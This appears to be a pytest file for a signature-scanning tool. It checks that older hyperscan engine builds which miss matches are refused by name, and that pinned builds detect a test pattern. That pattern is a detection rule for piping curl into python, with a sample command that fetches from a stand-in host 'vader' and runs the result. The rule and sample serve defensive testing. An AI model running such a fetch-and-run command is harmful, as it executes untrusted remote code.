"""Other builds of the engine, installed beside this environment, as users of the real command meet them."""

import json
import os
import platform
import subprocess
import sys
from pathlib import Path

import pytest

from tests.support.cli import ROOT, command, environment

SIGNATURES = """\
signatures:
  - id: t.pipe
    regex: 'curl.*\\|\\s*python'
    flags: s
    examples: {match: ['curl http://vader:8080/ 2>&1 | python'], no_match: [curl]}
"""

TEXT = b"nothing\ncurl http://vader:8080/ 2>&1 | python\n"


def installed(folder: Path, version: str) -> Path:
    """Installs one build of the engine, alone; skips the test where it cannot be had."""
    pip = [sys.executable, "-m", "pip", "install", "--quiet", "--disable-pip-version-check"]
    options = ["--no-deps", "--only-binary=:all:", "--target", str(folder), f"hyperscan=={version}"]
    done = subprocess.run([*pip, *options], capture_output=True, text=True, timeout=240, check=False)
    if done.returncode:
        reason = (done.stderr.strip().splitlines() or ["no reason given"])[-1]
        pytest.skip(f"hyperscan {version} cannot be installed here: {reason}")
    return folder


@pytest.fixture(scope="module")
def missing(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return installed(tmp_path_factory.mktemp("missing"), "0.9.1")


@pytest.fixture(scope="module")
def portable(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return installed(tmp_path_factory.mktemp("portable"), "0.7.8")


def run(
    here: Path, words: list[str], packages: Path | None, **more: str
) -> subprocess.CompletedProcess[bytes]:
    """Runs a command with some packages before those of this environment."""
    (here / "pipe.yaml").write_text(SIGNATURES)
    path = os.pathsep.join(str(folder) for folder in (packages, ROOT) if folder is not None)
    env = {**environment(here / "home"), "PYTHONPATH": path, **more}
    return subprocess.run(words, cwd=here, env=env, input=TEXT, capture_output=True, timeout=240, check=False)


SCAN = command("scan", "-", "-s", "pipe.yaml", "--json")

IN_PYTHON = """\
import sys, pyarrow, scanner
from scanner.errors import EngineError
table, rules = pyarrow.table({"text": ["x"]}), scanner.load_signatures("pipe.yaml")
try:
    scanner.scan(table, rules)
except EngineError as error:
    print(error, file=sys.stderr)
    sys.exit(2)
"""


@pytest.mark.parametrize(
    "words",
    [
        SCAN,
        command("signatures", "test", "pipe.yaml"),
        [sys.executable, "-c", IN_PYTHON],
    ],
    ids=["scan", "signatures test", "scanner.scan"],
)
def test_a_build_that_misses_is_refused_by_name(here: Path, missing: Path, words: list[str]) -> None:
    done = run(here, words, missing)
    told = done.stderr.decode()
    assert done.returncode == 2, told
    assert told.startswith("the engine hyperscan 0.9.1 (Version: 5.4.12")
    assert r"`curl(?s:.)*\|\s*python`" in told
    assert "pip install 'hyperscan==" in told
    assert "Traceback" not in told


def test_a_hunt_is_refused_before_it_starts(here: Path, missing: Path) -> None:
    write = "import pyarrow, pyarrow.parquet as p; p.write_table(pyarrow.table({'text': ['x']}), 'a.parquet')"
    subprocess.run([sys.executable, "-c", write], cwd=here, check=True)
    (here / "hunt.yaml").write_text(
        "hunt: pipes\narchive: {uri: a.parquet, text_columns: [text]}\nsignatures: pipe.yaml\noutput: results\n"
    )
    done = run(here, command("hunt", "hunt.yaml"), missing)
    assert done.returncode == 2
    assert b"the engine hyperscan 0.9.1" in done.stderr
    assert list((here / "results").rglob("*.json")) == []
    assert run(here, command("hunt", "hunt.yaml"), None).returncode == 0
    (record,) = (here / "results").rglob("run.json")
    qualification = json.loads(record.read_text())["engine"]["qualification"]
    assert qualification["passed"] is True
    assert set(qualification) == {"passed", "digest", "cases", "random_patterns"}


def test_the_doctor_names_what_misses(here: Path, missing: Path) -> None:
    done = run(here, command("doctor", "--json"), missing)
    assert done.returncode == 2
    told = json.loads(done.stdout)
    assert told["engine"]["package"] == "0.9.1"
    assert told["qualification"]["missed"] > 1000
    assert "pip install 'hyperscan==" in told["remedy"]


@pytest.mark.parametrize("cache", ["cache", ""])
def test_the_pinned_builds_pass_and_find_what_the_other_missed(
    here: Path, portable: Path, cache: str
) -> None:
    builds = [portable] if platform.machine() not in ("x86_64", "AMD64") else [None, portable]
    for packages in builds:
        done = run(here, SCAN, packages, HINDCAST_CACHE=cache)
        assert done.returncode == 0, done.stderr.decode()
        assert [json.loads(line)["signature_id"] for line in done.stdout.splitlines()] == ["t.pipe"]
